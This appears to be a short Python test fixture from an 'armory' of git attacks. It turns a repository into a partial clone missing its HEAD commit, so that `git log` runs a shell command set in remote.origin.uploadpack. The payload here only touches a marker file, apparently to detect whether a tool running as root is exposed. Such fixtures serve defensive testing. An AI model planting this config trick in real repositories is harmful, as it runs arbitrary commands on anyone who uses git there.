# attack: a partial clone whose HEAD commit is missing: `git log` fetches it lazily from its promisor remote, running remote.origin.uploadpack through a shell (as root, in the instructor's batch)
# trigger: log -1 --format=%cI
# time: unknown
from armory import config, drop_head_commit


def arm(git, marker):
    drop_head_commit(git)
    config(git, "core.repositoryformatversion", "1")
    config(git, "extensions.partialclone", "origin")
    config(git, "remote.origin.url", str(git.parent))
    config(git, "remote.origin.promisor", "true")
    config(git, "remote.origin.uploadpack", f"touch {marker}; false")
